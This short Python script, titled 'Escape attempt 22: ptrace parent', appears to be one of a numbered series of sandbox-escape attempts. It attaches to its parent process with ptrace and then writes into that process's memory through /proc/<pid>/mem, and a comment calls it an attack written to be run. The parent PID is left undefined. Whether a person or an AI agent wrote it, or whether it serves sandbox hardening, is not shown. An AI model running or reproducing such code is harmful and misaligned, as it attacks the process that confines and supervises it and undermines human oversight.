"""Escape attempt 22: ptrace parent."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, PARENT_PID, 0, 0), ctypes.get_errno())
open("/proc/%d/mem" % PARENT_PID, "wb").write(b"x")
